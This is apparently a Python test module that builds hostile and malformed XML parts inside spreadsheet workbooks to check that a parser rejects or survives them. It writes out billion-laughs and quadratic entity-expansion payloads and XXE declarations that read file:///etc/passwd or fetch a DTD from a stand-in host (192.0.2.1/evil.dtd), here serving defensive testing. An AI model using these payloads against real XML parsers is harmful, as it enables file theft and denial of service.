"""Hostile and odd XML in a workbook's parts."""

from collections.abc import Iterator
from functools import partial

from tests.hostile.kind import CORRECTED, CORRUPT, OVERSIZED, Kind, limited
from tests.hostile.kit import (
    DECLARED,
    MAIN,
    RELATIONS,
    book,
    parts,
    relations_xml,
    rows_xml,
    sheet_xml,
    strings_of,
    strings_xml,
    styles_xml,
    types_xml,
    workbook_xml,
    zipped,
)

_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12)
) + "]>"  # fmt: skip
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>'
_FILE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_WEB = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'
_GOOD = {
    "sheet": sheet_xml().encode(),
    "strings": strings_xml(strings_of()).encode(),
    "styles": styles_xml().encode(),
    "workbook": workbook_xml(),
    "workbook_rels": relations_xml(
        [
            ("rId1", "worksheet", "worksheets/sheet1.xml", False),
            ("rId2", "sharedStrings", "sharedStrings.xml", False),
            ("rId3", "styles", "styles.xml", False),
        ]
    ),
}


def kinds() -> Iterator[Kind]:
    """Every kind of this file."""
    yield from _document_types()
    yield from _encodings()
    yield from _malformed()
    yield from _odd()
    yield from _huge()


def _declaring(part: str, doctype: str) -> bytes:
    return book(**{part: _GOOD[part].replace(b"?>\n", b"?>\n" + doctype.encode(), 1)})


def _document_types() -> Iterator[Kind]:
    for part in ("sheet", "strings", "styles", "workbook", "workbook_rels"):
        make = partial(_declaring, part, _LAUGHS)
        yield Kind(f"billion laughs in {part}", make, CORRUPT)
    declared = {"quadratic blowup": _QUADRATIC, "an external entity": _FILE}
    declared |= {"an external document type": _WEB, "a parameter entity": _PARAMETER}
    declared |= {"an empty document type": "<!DOCTYPE worksheet>"}
    for name, doctype in declared.items():
        yield Kind(f"{name} in the sheet", partial(_declaring, "sheet", doctype), CORRUPT)
    yield Kind("billion laughs in the content types", _laughing_types, CORRUPT)
    for part, expected in {
        "xl/theme/theme1.xml": CORRUPT, "docProps/core.xml": CORRUPT,
        "xl/drawings/drawing1.xml": CORRUPT, "xl/drawings/_rels/drawing1.xml.rels": CORRUPT,
        "xl/drawings/vmlDrawing1.vml": CORRUPT, "xl/worksheets/_rels/sheet1.xml.rels": CORRUPT,
        "customXml/item1.xml": CORRECTED, "xl/media/image1.svg": CORRECTED,
    }.items():  # fmt: skip
        make = partial(_beside, part, f"{DECLARED}<!-- a -->{_LAUGHS}<a>&m;</a>".encode())
        yield Kind(f"billion laughs in {part}", make, expected)
    wide = f"{DECLARED}{_LAUGHS}<a/>".replace("UTF-8", "UTF-16").encode("utf-16")
    make = partial(_beside, "xl/theme/theme1.xml", wide)
    yield Kind("billion laughs in a theme in UTF-16", make, CORRUPT)


def _beside(part: str, content: bytes) -> bytes:
    return zipped(parts() | {part: content})


def _laughing_types() -> bytes:
    return book(types=types_xml().replace(b"?>\n", b"?>\n" + _LAUGHS.encode(), 1))


def _in(encoding: str, declared: str, mark: bytes = b"") -> bytes:
    text = sheet_xml().replace("UTF-8", declared, 1)
    return book(sheet=mark + text.encode(encoding))


def _encodings() -> Iterator[Kind]:
    def said(
        encoding: str, declared: str, expected: str = CORRECTED, mark: bytes = b"", more: str = ""
    ) -> Kind:
        name = f"a sheet in {encoding}, declared {declared}{more}"
        return Kind(name, partial(_in, encoding, declared, mark), expected)

    yield said("utf-8", "UTF-8", mark=b"\xef\xbb\xbf", more=", with a mark")
    yield said("utf-8", "utf8")
    yield said("utf-16-le", "UTF-16", mark=b"\xff\xfe")
    yield said("utf-16-be", "UTF-16", mark=b"\xfe\xff")
    yield said("utf-16-le", "UTF-16", more=", without a mark")
    yield said("utf-16-le", "UTF-8", mark=b"\xff\xfe")
    yield said("utf-8", "Shift_JIS")  # ASCII only, so the same
    yield said("utf-32", "UTF-32", CORRUPT)
    yield said("utf-7", "UTF-7", CORRUPT)
    yield said("cp500", "cp500", CORRUPT)
    yield said("utf-8", "zlib", CORRUPT)
    yield said("utf-8", "unicode_escape", CORRUPT)
    long = partial(_in, "utf-8", "x" * 300)
    yield Kind("a sheet in an encoding of 300 letters", long, CORRECTED)
    texts = strings_xml(strings_of())
    for encoding, declared in (("cp932", "Shift_JIS"), ("euc_jp", "EUC-JP")):
        part = texts.replace("UTF-8", declared, 1).encode(encoding)
        yield Kind(f"strings in {declared}", partial(book, strings=part), CORRECTED)
    mixed = texts.encode("cp932")
    yield Kind("strings in Shift_JIS, declared UTF-8", partial(book, strings=mixed), CORRUPT)
    broken = texts.encode().replace("商".encode(), b"\xe5\x95")
    yield Kind("half a character", partial(book, strings=broken), CORRUPT)
    surrogate = texts.encode().replace("商".encode(), b"\xed\xa0\x80")
    yield Kind("half a surrogate in UTF-8", partial(book, strings=surrogate), CORRUPT)


def _text(piece: str) -> bytes:
    return book(strings=strings_xml(strings_of()).replace("商工課", piece, 1))


def _malformed() -> Iterator[Kind]:
    good = sheet_xml()
    broken = {
        "an empty sheet part": "",
        "a sheet part of blanks": "   \n ",
        "only a declaration": DECLARED,
        "no end tag": good.replace("</worksheet>", ""),
        "tags crossed": good.replace("</sheetData></worksheet>", "</worksheet></sheetData>"),
        "two roots": good + "<a/>",
        "text behind the root": good + "x",
        "an attribute twice": good.replace('<row r="3">', '<row r="3" r="4">'),
        "an unknown prefix": good.replace('<row r="3">', '<row r="3"><zz:c/>'),
        "an unquoted attribute": good.replace('<row r="3">', "<row r=3>"),
        "a bare ampersand": good.replace("<v>0</v>", "<v>0 & 1</v>"),
        "an unknown entity": good.replace("<v>0</v>", "<v>&nbsp;</v>"),
        "a bare angle": good.replace("<v>0</v>", "<v>0 < 1</v>"),
        "a declaration twice": DECLARED + good,
        "a web page for a sheet": "<html><body>404 Not Found</body></html>",
        "a comment that never ends": good.replace("<sheetData>", "<!-- <sheetData>"),
        "no namespace": good.replace(f' xmlns="{MAIN}"', "", 1),
        "another namespace": good.replace(MAIN, "urn:evil", 1),
    }
    for name, text in broken.items():
        yield Kind(name, partial(book, sheet=text), CORRUPT)
    for name, piece in {
        "a zero byte": "\0",
        "a control character": "\x1b[31m",
        "a reference to a zero byte": "&#0;",
        "a reference to a surrogate": "&#xD800;",
        "a reference beyond Unicode": "&#x110000;",
        "a reference with a million digits": f"&#{'9' * 100_000};",
        "U+FFFE": "\ufffe",
    }.items():
        yield Kind(f"{name} in a text", partial(_text, piece), CORRUPT)


def _odd() -> Iterator[Kind]:
    good, rows = sheet_xml(), rows_xml()
    prefixed = (
        f'<x:worksheet xmlns:x="{MAIN}" xmlns:r="{RELATIONS}"><x:sheetData>'
        + rows.replace("<", "<x:").replace("<x:/", "</x:")
        + "</x:sheetData></x:worksheet>"
    )
    odd = {
        "XML 9.9": good.replace("1.0", "9.9", 1),
        "a prefix for every tag": prefixed,
        "comments between the rows": good.replace("<row", "<!-- <row r='9'> --><row"),
        "comments inside a value": good.replace("<v>0</v>", "<v><!-- 9 -->0<!-- > --></v>"),
        "CDATA for a value": good.replace("<v>0</v>", "<v><![CDATA[0]]></v>"),
        "instructions between the cells": good.replace("<c ", "<?x <c r='Z9'/> ?><c "),
        "single quotes": good.replace('"', "'"),
        "line ends in tags": good.replace(" r=", "\r\n\t r=").replace("/>", "\n/>"),
        "an angle in an attribute": good.replace("<row r=", "<row x='a>b' r="),
        "a namespace at every cell": good.replace("<c ", f'<c xmlns="{MAIN}" '),
        "a foreign element": good.replace(
            "</worksheet>", '<e xmlns="urn:e"><row/></e></worksheet>'
        ),
        "a table of cells inside an extension": good.replace(
            "<sheetData>", "<extLst><ext><sheetData/></ext></extLst><sheetData>"
        ),
        "a hundred attributes": good.replace("<row ", f"<row {_numbered(100)} "),
        "Strict": good.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
        "blanks around everything": good.replace("><", ">\n \t<"),
        "entities for letters": good.replace("<v>0</v>", "<v>&#48;</v>"),
    }
    for name, text in odd.items():
        yield Kind(name, partial(book, sheet=text), CORRECTED)
    choice = good.replace('<c r="A1"', '<AlternateContent><c r="A1"', 1).replace(
        "</c></row>", "</c></AlternateContent></row>", 1
    )
    yield Kind("alternatives among the cells", partial(book, sheet=choice), CORRUPT)


def _huge() -> Iterator[Kind]:
    deep = "<a>" * 60_000 + "</a>" * 60_000
    yield Kind(
        "nested deep", partial(book, sheet=sheet_xml(after=deep)), OVERSIZED
    )  # fmt: skip
    yield Kind("a comment of 512 KiB", partial(_commented, 1 << 19), CORRECTED)
    yield Kind("an attribute of 512 KiB", partial(_attributed, 1 << 19), CORRECTED)
    yield Kind("a name of 512 KiB", partial(_named, 1 << 19), CORRECTED)
    yield Kind("5,000 attributes", _attributes, CORRECTED)
    yield Kind("5,000 namespaces", _namespaces, CORRECTED)
    many = sheet_xml(after="<e/>" * 3_000)
    for what, piece in {
        "comments": "<!-- ", "instructions": "<?a ", "CDATA": "<![CDATA[", "quotes": '<a b="',
        "tags in quotes": '"<" ', "ends of CDATA": "]]>", "brackets": "<", "comment ends": "-->",
    }.items():  # fmt: skip
        broken = sheet_xml(after=f"<e>{'</e><e>' * 300}<a {piece * 100_000}</e>")
        yield Kind(f"100,000 {what} that never end", partial(book, sheet=broken), CORRUPT)
        inside = strings_xml(strings_of()).replace("商工課", piece * 100_000, 1)
        expected = CORRECTED if what == "comment ends" else CORRUPT
        yield Kind(f"100,000 {what} in a text", partial(book, strings=inside), expected)
    for name, part in (("sheet", many), ("strings", strings_xml(["x"] * 3_000))):
        yield Kind(
            f"too many elements in {name}", partial(book, **{name: part}), OVERSIZED,
            settings=limited(elements=2_000),
        )  # fmt: skip


def _commented(size: int) -> bytes:
    return book(sheet=sheet_xml(before=f"<!--{' ' * size}-->"))


def _attributed(size: int) -> bytes:
    return book(sheet=sheet_xml(after=f'<e x="{" " * size}"/>'))


def _named(size: int) -> bytes:
    return book(sheet=sheet_xml(after=f"<{'e' * size}/>"))


def _attributes() -> bytes:
    return book(sheet=sheet_xml(after=f"<e {_numbered(5_000)}/>"))


def _numbered(count: int, prefix: str = "a") -> str:
    return " ".join(f'{prefix}{n}="{n}"' for n in range(count))


def _namespaces() -> bytes:
    return book(sheet=sheet_xml(after=f"<e {_numbered(5_000, 'xmlns:n')}/>"))
